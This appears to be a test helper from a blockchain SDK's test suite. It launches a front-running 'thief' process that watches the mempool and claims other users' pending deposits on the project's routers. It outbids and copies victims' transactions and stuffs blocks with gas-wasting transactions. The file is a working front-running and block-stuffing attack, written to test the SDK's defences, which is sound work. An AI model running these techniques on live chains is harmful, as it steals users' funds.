"""A front-runner in its own process: it claims bare deposits before their sender does.

It reads the mempool, and chooses the position of its transactions in a block by their fees. It has
no other knowledge of the SDK.

``python -m tests.sdk.thief URL`` reads its targets and keys from one line of standard input. It
attacks until standard input ends, and then prints its report as JSON.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import requests
from eth_account import Account
from eth_utils import to_checksum_address

from ape_dtn.network.abi import ERC20, Router

ROOT = Path(__file__).parents[2]

START = "0x" + Router.start_user_session.encode().hex()
TRANSFER = "0x" + ERC20.transfer.selector.hex()

# Seconds between two polls.
POLL_INTERVAL = 0.01

# More than any other sender pays for a unit of gas, in wei.
HIGHEST_FEE = 1000 * 10**9

# Gas limit of a session start.
CLAIM_GAS = 250_000

# Gas that is left in a filled block: less than the gas limit of the victim's start, and enough for
# a transfer and a claim.
GAS_LEFT_IN_BLOCK = 399_000

# The kinds of attacked transactions.
DEPOSIT, SESSION_START = "deposit", "start"

# Maximum gas of a transaction (EIP-7825), and creation code that uses all of its gas.
MAX_GAS_OF_TRANSACTION = 2**24
WASTING_CODE = "0xfe"


@dataclass(frozen=True)
class Target:
    router: str
    token: str
    fee_target: str


@dataclass(frozen=True)
class Attack:
    """The attack on a pending transaction.

    Attributes:
        victim: Hash of the transaction.
        kind: "deposit" or "start".
        claims: Hashes of the claims, and of copies of the victim.
    """

    victim: str
    kind: str
    claims: list[str]


@dataclass
class Report:
    """What a front-runner did.

    Attributes:
        accounts: Its addresses.
        attacks: Its attacks on pending transactions.
        blocks: Number of blocks that it searched for open deposits.
        open_deposits: Number of mined, open deposits that it claimed.
    """

    accounts: list[str]
    attacks: list[Attack] = field(default_factory=list)
    blocks: int = 0
    open_deposits: int = 0

    def attacked(self, kind: str) -> dict[str, Attack]:
        """The attacks on one kind of transaction, by the transaction's hash."""
        return {attack.victim: attack for attack in self.attacks if attack.kind == kind}


@contextmanager
def front_runner(url: str, targets: Sequence[Target], keys: Sequence[str]) -> Iterator[Report]:
    """Runs a front-runner; its report is complete when the context ends.

    Args:
        url: The chain.
        targets: The networks to attack.
        keys: Four private keys, whose accounts have ETH.
    """
    process = subprocess.Popen(
        [sys.executable, "-m", "tests.sdk.thief", url],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": os.fspath(ROOT)},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    report = Report([str(Account.from_key(key).address) for key in keys])
    try:
        assert process.stdin is not None
        assert process.stdout is not None
        arguments = {"targets": [asdict(target) for target in targets], "keys": list(keys)}
        process.stdin.write(json.dumps(arguments) + "\n")
        process.stdin.flush()
        assert process.stdout.readline() == "watching\n"
        yield report
        result = json.loads(process.communicate(timeout=30)[0])
        report.attacks = [Attack(**fields) for fields in result.pop("attacks")]
        vars(report).update(result)
    finally:
        process.kill()
        process.wait()


class Chain:
    def __init__(self, url: str) -> None:
        self.url, self.http = url, requests.Session()
        self.id = int(self.ask(("eth_chainId", []))[0], 16)

    def ask(self, *calls: tuple[str, list[Any]]) -> list[Any]:
        """Calls RPC methods in one HTTP request; the result of a refused call is None."""
        batch = [
            {"jsonrpc": "2.0", "id": place, "method": method, "params": params}
            for place, (method, params) in enumerate(calls)
        ]
        answers = self.http.post(self.url, json=batch, timeout=10).json()
        by_id = {answer["id"]: answer.get("result") for answer in answers}
        return [by_id[place] for place in range(len(calls))]


class Sender:
    """An account that counts its own nonces, and waits for no receipts."""

    def __init__(self, chain: Chain, key: str) -> None:
        self.chain, self.account = chain, Account.from_key(key)
        self.nonce = self._count()

    def send(self, to: str | None, data: str, gas: int, fee: int) -> list[str]:
        """Sends a transaction; ``fee`` is in wei per gas. Returns its hash, if it was accepted."""
        signed: Any = self.account.sign_transaction(
            {
                "type": 2,
                "chainId": self.chain.id,
                "nonce": self.nonce,
                **({"to": to_checksum_address(to)} if to else {}),
                "data": data,
                "value": 0,
                "gas": gas,
                "maxFeePerGas": fee,
                "maxPriorityFeePerGas": fee,
            }
        )
        (sent,) = self.chain.ask(("eth_sendRawTransaction", [signed.raw_transaction.to_0x_hex()]))
        self.nonce = self.nonce + 1 if sent else self._count()
        return [sent] if sent else []

    def _count(self) -> int:
        (count,) = self.chain.ask(("eth_getTransactionCount", [self.account.address, "pending"]))
        return int(count, 16)


class FrontRunner:
    """Watches the chain, and attacks."""

    def __init__(self, url: str, targets: Sequence[Target], keys: Sequence[str]) -> None:
        self.chain, self.targets = Chain(url), targets
        self.before, self.after, self.copier, self.filler = (
            Sender(self.chain, key) for key in keys
        )
        self.report = Report([sender.account.address for sender in self._senders])
        self.own = {address.lower() for address in self.report.accounts}
        (self.pending,) = self.chain.ask(("eth_newPendingTransactionFilter", []))
        self.head = ""

    @property
    def _senders(self) -> Sequence[Sender]:
        return self.before, self.after, self.copier, self.filler

    def poll(self) -> None:
        """Reads the mempool and the latest block once."""
        hashes, head = self.chain.ask(
            ("eth_getFilterChanges", [self.pending]), ("eth_blockNumber", [])
        )
        if head != self.head:
            self.head = head
            self._claim_open_deposits()
        if hashes:
            found = self.chain.ask(*(("eth_getTransactionByHash", [hash_]) for hash_ in hashes))
            for transaction in found:
                is_pending = transaction and transaction["blockNumber"] is None
                if is_pending and transaction["from"].lower() not in self.own:
                    self._attack_if_related(transaction)

    def _claim_open_deposits(self) -> None:
        """Claims on each network where a session start would succeed now."""
        simulation = {"from": self.report.accounts[0], "data": START}
        started = self.chain.ask(
            *(("eth_call", [{**simulation, "to": target.router}]) for target in self.targets)
        )
        self.report.blocks += 1
        for target, session in zip(self.targets, started, strict=True):
            if session:
                self.report.open_deposits += 1
                self._claim(self.before, target, HIGHEST_FEE)

    def _attack_if_related(self, victim: dict[str, Any]) -> None:
        """Attacks a deposit, a session start, or a transaction with a network's address."""
        to, data = (victim["to"] or "").lower(), victim["input"]
        for target in self.targets:
            if to == target.token and data.startswith(TRANSFER) and target.fee_target[2:] in data:
                self._attack_deposit(victim, target)
            elif (to == target.router and data == START) or target.router[2:] in data:
                self._attack_start(victim, target)

    def _attack_deposit(self, victim: dict[str, Any], target: Target) -> None:
        """Claims after the deposit, and fills the block so that the victim's start does not fit."""
        fee = _fee(victim)
        claims = self._claim(self.after, target, fee - 1)
        (block,) = self.chain.ask(("eth_getBlockByNumber", ["latest", False]))
        gas_to_waste = int(block["gasLimit"], 16) - GAS_LEFT_IN_BLOCK
        while gas_to_waste > 0:
            gas = min(gas_to_waste, MAX_GAS_OF_TRANSACTION)
            self.filler.send(None, WASTING_CODE, gas, fee + 1)
            gas_to_waste -= gas
        self.report.attacks.append(Attack(victim["hash"], DEPOSIT, claims))

    def _attack_start(self, victim: dict[str, Any], target: Target) -> None:
        """Claims before and after the start, and sends a copy of it before it."""
        claims = self._claim(self.before, target, HIGHEST_FEE)
        claims += self._claim(self.after, target, _fee(victim) - 1)
        claims += self.copier.send(
            victim["to"], victim["input"], int(victim["gas"], 16), HIGHEST_FEE
        )
        self.report.attacks.append(Attack(victim["hash"], SESSION_START, claims))

    def _claim(self, sender: Sender, target: Target, fee: int) -> list[str]:
        return sender.send(target.router, START, CLAIM_GAS, fee)


def _fee(transaction: dict[str, Any]) -> int:
    """The fee per gas by which the chain orders a transaction."""
    return int(transaction.get("maxFeePerGas") or transaction["gasPrice"], 16)


def main() -> None:
    arguments = json.loads(sys.stdin.readline())
    targets = [Target(**fields) for fields in arguments["targets"]]
    attacker = FrontRunner(sys.argv[1], targets, arguments["keys"])
    print("watching", flush=True)
    ended = threading.Event()

    def wait_for_end() -> None:
        sys.stdin.read()
        ended.set()

    threading.Thread(target=wait_for_end, daemon=True).start()
    while not ended.wait(POLL_INTERVAL):
        attacker.poll()
    print(json.dumps(asdict(attacker.report)))


if __name__ == "__main__":
    main()
